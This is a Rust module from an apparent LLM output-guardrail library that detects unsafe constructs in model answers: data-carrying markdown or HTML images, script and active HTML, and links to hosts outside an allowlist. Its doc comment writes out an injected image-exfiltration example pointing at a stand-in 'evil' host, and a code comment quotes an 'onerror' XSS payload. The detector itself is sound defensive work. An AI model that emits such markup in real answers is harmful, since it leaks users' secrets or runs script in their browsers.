//! Improper output handling (LLM05): model output that a client renders can act on its own.
//!
//! - `markdown_image_exfil`: a markdown or HTML image whose URL carries data (a query string, a
//!   fragment, or a long path segment) or points outside the allowlist. A chat UI fetches
//!   images without a click, so an injected `![](https://evil/?q=<secret>)` leaks at once.
//! - `html_script`: script tags, `javascript:` and `data:text/html` URLs, inline event
//!   handlers, iframes, objects and embeds.
//! - `link_unlisted`: links (markdown, HTML or bare) to hosts outside the allowlist, when an
//!   allowlist is set.

use std::collections::HashMap;
use std::sync::OnceLock;

use rampart_detect::markup;
use rampart_detect::markup::{carries_data, carries_payload, script_url};
use regex_automata::meta::Regex;

/// The kind of unsafe output.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Kind {
    /// An image URL that carries data or leaves the allowlist.
    ImageExfiltration,
    /// Script or active HTML.
    Script,
    /// A link to a host outside the allowlist.
    UnlistedLink,
    /// A link whose URL carries an encoded or long payload (exfiltration on click).
    LinkExfiltration,
}

impl Kind {
    /// The detector id of findings of this kind.
    pub fn detector(self) -> &'static str {
        match self {
            Kind::ImageExfiltration => "markdown_image_exfil",
            Kind::Script => "html_script",
            Kind::UnlistedLink => "link_unlisted",
            Kind::LinkExfiltration => "link_exfil",
        }
    }
}

/// One unsafe construct in output.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Unsafe {
    /// What it is.
    pub kind: Kind,
    /// Byte range of the whole construct (the image, tag or link).
    pub start: usize,
    /// End of the byte range.
    pub end: usize,
    /// The host it points to, if any.
    pub host: Option<String>,
}

/// Which hosts output may link to and load images from.
#[derive(Clone, Debug, Default)]
pub struct Allowlist {
    /// Host names; `*.example.com` matches subdomains. Empty: links are not checked, and images
    /// are flagged only when their URL carries data.
    pub hosts: Vec<String>,
}

impl Allowlist {
    /// Whether `host` is listed.
    pub fn allows(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        self.hosts.iter().any(|h| {
            let h = h.to_ascii_lowercase();
            match h.strip_prefix("*.") {
                Some(suffix) => host == suffix || host.ends_with(&format!(".{suffix}")),
                None => host == h,
            }
        })
    }
}

const IMAGE: usize = 0;
const HTML_IMAGE: usize = 1;
const SCRIPT: usize = 2;
const LINK: usize = 3;
const HTML_LINK: usize = 4;
const REF_IMAGE: usize = 5;
const REF_LINK: usize = 6;
const BARE: usize = 7;

/// Link text or alt text: brackets nest one level.
const TEXT: &str = r"([^\[\]]{0,300}(?:\[[^\[\]]{0,100}\][^\[\]]{0,100})?)";

fn regex() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        let pats = [
            // ![alt]( — the destination, title and `)` are parsed (`markup::inline_destination`)
            format!(r"!\[{TEXT}\]\("),
            // <img ...> — the tag is parsed (`markup::tag_end`)
            r"<img[\s/]".to_owned(),
            // active content
            r#"<\s*script\b[^>]*>(?s:.){0,4000}?<\s*/\s*script\s*>|<\s*script\b[^>]*>|<\s*(iframe|object|embed|frame|frameset|base|meta\s+http-equiv)\b[^>]*>|\bjavascript\s*:[^\s"')]+|\bvbscript\s*:[^\s"')]+|\bdata\s*:\s*text/html[^\s"')]*|<[a-z][^>]{0,400}?\bon[a-z]{3,20}\s*=\s*["']?[^"'>]*["']?[^>]*>|<\s*svg\b[^>]*\bonload\b[^>]*>"#.to_owned(),
            // [text](
            format!(r"\[{TEXT}\]\("),
            // <a ...>, and the other tags a click follows a URL from (`active` reads them)
            r"<(a|area|form|button|input)\s".to_owned(),
            // ![alt][label], ![label][], ![label]
            format!(r"!\[{TEXT}\](?:\[([^\[\]]{{0,999}})\])?"),
            // [text][label], [label][]
            format!(r"\[{TEXT}\]\[([^\[\]]{{0,999}})\]"),
            // bare URLs: parentheses inside balanced, a query without a path included
            r#"https?://[a-zA-Z0-9.\-]+(:[0-9]+)?([/?#](?:[^\s<>"'()\[\]]|\([^\s<>"'()]*\))*)?"#
                .to_owned(),
        ]
        .map(|p| crate::signals::ascii(&p));
        Regex::new_many(&pats).expect("output patterns compile")
    })
}

/// The host of an absolute http(s) URL, lowercase.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url
        .strip_prefix("https://")
        .or_else(|| url.strip_prefix("http://"))
        .or_else(|| url.strip_prefix("//"))?;
    let end = rest.find(['/', '?', '#', ':']).unwrap_or(rest.len());
    let host = &rest[..end];
    let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// Byte ranges of markdown code: fenced blocks (```` ``` ```` or `~~~`) and inline code spans.
/// Markup there is shown, not rendered (a coding answer that explains `<script>`).
fn code_ranges(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let b = text.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let at_line_start = i == 0 || b[i - 1] == b'\n';
        if at_line_start && (b[i..].starts_with(b"```") || b[i..].starts_with(b"~~~")) {
            let fence = &b[i..i + 3];
            let body = text[i + 3..].find('\n').map_or(b.len(), |k| i + 3 + k + 1);
            let close = text[body.min(b.len())..]
                .match_indices(std::str::from_utf8(fence).unwrap_or("```"))
                .find(|(k, _)| body + k == 0 || b[body + k - 1] == b'\n')
                .map_or(b.len(), |(k, _)| body + k + 3);
            out.push((i, close));
            i = close;
            continue;
        }
        if b[i] == b'`' {
            let run = b[i..].iter().take_while(|&&c| c == b'`').count();
            let ticks = &text[i..i + run];
            if let Some(k) = text[i + run..].find(ticks) {
                let end = i + run + k + run;
                // a code span stays on its paragraph
                if !text[i..end].contains("\n\n") {
                    out.push((i, end));
                    i = end;
                    continue;
                }
            }
            i += run;
            continue;
        }
        i += 1;
    }
    out
}

/// A reference definition (`[label]: url`): its URL and the byte range of its line.
struct Definition {
    url: (usize, usize),
    start: usize,
    end: usize,
}

/// The reference definitions of `text` by normalized label; the first of a label wins.
fn definitions(text: &str) -> HashMap<Vec<u8>, Definition> {
    let mut out = HashMap::new();
    if !text.contains("]:") {
        return out;
    }
    let b = text.as_bytes();
    let starts = std::iter::once(0).chain(memchr_lines(b));
    for at in starts {
        if let Some(d) = markup::reference_definition(b, at) {
            out.entry(markup::normalize_label(&b[d.label]))
                .or_insert(Definition {
                    url: (d.url.start, d.url.end),
                    start: at,
                    end: d.end,
                });
        }
    }
    out
}

/// Positions just after each line break.
fn memchr_lines(b: &[u8]) -> impl Iterator<Item = usize> + '_ {
    b.iter()
        .enumerate()
        .filter(|(_, c)| **c == b'\n')
        .map(|(i, _)| i + 1)
}

/// What an image loading `url` is, if unsafe.
fn image_kind(url: &str, allow: &Allowlist) -> Option<Kind> {
    if script_url(url) {
        return Some(Kind::Script);
    }
    let host = host_of(url)?;
    (!allow.allows(&host) && (carries_data(url) || !allow.hosts.is_empty()))
        .then_some(Kind::ImageExfiltration)
}

/// What a link to `url` is, if unsafe.
fn link_kind(url: &str, allow: &Allowlist) -> Option<Kind> {
    if script_url(url) {
        return Some(Kind::Script);
    }
    let host = host_of(url)?;
    if allow.allows(&host) {
        None
    } else if carries_payload(url) {
        Some(Kind::LinkExfiltration)
    } else if allow.hosts.is_empty() {
        None
    } else {
        Some(Kind::UnlistedLink)
    }
}

/// The end of the `<a>` element whose opening tag ends at `open_end`: just past its `</a>`
/// when that closes it within a few hundred bytes, else the end of the opening tag.
fn anchor_end(lower: &str, open_end: usize) -> usize {
    let mut limit = (open_end + 2000).min(lower.len());
    while !lower.is_char_boundary(limit) {
        limit -= 1;
    }
    let window = &lower[open_end..limit];
    match window.find("</a") {
        Some(k) if !window[..k].contains("<a") => {
            let close = open_end + k;
            lower[close..].find('>').map_or(open_end, |g| close + g + 1)
        }
        _ => open_end,
    }
}

/// Finds unsafe constructs in output text. Script and HTML inside markdown code is shown, not
/// rendered, and is not reported; images and links are reported wherever they are. Each span
/// covers the whole construct (an image or link with its URL, title and closing parenthesis;
/// a whole tag; a reference-style image and the definition line it uses), so removing it
/// leaves nothing of the URL behind.
pub fn find(text: &str, allow: &Allowlist) -> Vec<Unsafe> {
    let code = if text.contains('`') || text.contains("~~~") {
        code_ranges(text)
    } else {
        Vec::new()
    };
    let in_code = |s: usize| code.iter().any(|&(a, b)| a <= s && s < b);
    let defs = definitions(text);
    let re = regex();
    let mut out: Vec<Unsafe> = Vec::new();
    // ASCII-lowercased for case-insensitive tags: same length, same offsets
    let lower = text.to_ascii_lowercase();
    let hay = lower.as_bytes();
    let b = text.as_bytes();
    let mut caps = re.create_captures();
    let mut at = 0;
    while at <= hay.len() {
        let input = regex_automata::Input::new(hay).span(at..hay.len());
        re.search_captures(&input, &mut caps);
        let Some(m) = caps.get_match() else { break };
        let (s, mut e) = (m.start(), m.end());
        let pid = m.pattern().as_usize();
        let group = |i: usize| caps.get_group(i).map(|g| (g.start, g.end));
        let (kind, url) = match pid {
            IMAGE | LINK => match markup::inline_destination(b, e) {
                Some(d) => {
                    e = d.end;
                    let url = &text[d.url];
                    if pid == IMAGE {
                        (image_kind(url, allow), url)
                    } else {
                        (link_kind(url, allow), url)
                    }
                }
                None => (None, ""),
            },
            HTML_IMAGE | HTML_LINK => {
                let Some(end) = markup::tag_end(b, s) else {
                    // an unclosed tag runs to the end of the answer: the page around it may
                    // close it (`<img src=x onerror=alert(1)//`)
                    if !in_code(s) && markup::active_tag(&b[s..]) {
                        out.push(Unsafe {
                            kind: Kind::Script,
                            start: s,
                            end: text.len(),
                            host: None,
                        });
                        break;
                    }
                    at = e;
                    continue;
                };
                e = end;
                let tag = &b[s..e];
                if in_code(s) {
                    (None, "")
                } else if markup::active_tag(&b[s..e]) {
                    (Some(Kind::Script), "")
                } else if pid == HTML_IMAGE {
                    let srcs: Vec<&str> = markup::image_sources(tag)
                        .filter_map(|u| std::str::from_utf8(u).ok())
                        .collect();
                    match srcs
                        .iter()
                        .find_map(|u| image_kind(u, allow).map(|k| (k, *u)))
                    {
                        Some((k, u)) => (Some(k), u),
                        None => (None, ""),
                    }
                } else {
                    // only links are followed to a site: a form's target is not an answer's link
                    let name = lower[s + 1..e]
                        .split(|c: char| c.is_ascii_whitespace())
                        .next()
                        .unwrap_or("");
                    let href =
                        markup::attribute(tag, "href").filter(|_| matches!(name, "a" | "area"));
                    match href.and_then(|u| std::str::from_utf8(u).ok()) {
                        Some(u) if u.trim().to_ascii_lowercase().starts_with("http") => {
                            let k = link_kind(u.trim(), allow);
                            if k.is_some() {
                                e = anchor_end(&lower, e);
                            }
                            (k, u.trim())
                        }
                        _ => (None, ""),
                    }
                }
            }
            REF_IMAGE | REF_LINK => {
                let label = group(2)
                    .filter(|(a, z)| z > a)
                    .or_else(|| group(1))
                    .map(|(a, z)| markup::normalize_label(&b[a..z]));
                match label.and_then(|l| defs.get(&l)) {
                    Some(d) => {
                        let url = &text[d.url.0..d.url.1];
                        let kind = if pid == REF_IMAGE {
                            image_kind(url, allow)
                        } else {
                            link_kind(url, allow)
                        };
                        if let Some(k) = kind {
                            out.push(Unsafe {
                                kind: k,
                                start: d.start,
                                end: d.end,
                                host: host_of(url),
                            });
                        }
                        (kind, url)
                    }
                    // a bracketed text without a definition: plain text, look inside it
                    None => {
                        at = s + 1;
                        continue;
                    }
                }
            }
            SCRIPT if in_code(s) => (None, ""),
            SCRIPT => (Some(Kind::Script), ""),
            BARE => (link_kind(&text[s..e], allow), &text[s..e]),
            _ => (None, ""),
        };
        at = match kind {
            // a safe image or link may hold an unsafe one (`[![x](evil)](safe)`)
            None if matches!(pid, IMAGE | LINK | REF_IMAGE | REF_LINK) => s + 1,
            _ if e > s => e,
            _ => e + 1,
        };
        if let Some(kind) = kind {
            out.push(Unsafe {
                kind,
                start: s,
                end: e,
                host: host_of(url),
            });
        }
    }
    out.sort_by_key(|u| (u.start, u.end));
    out.dedup();
    out
}

#[cfg(test)]
#[path = "output_tests.rs"]
mod tests;
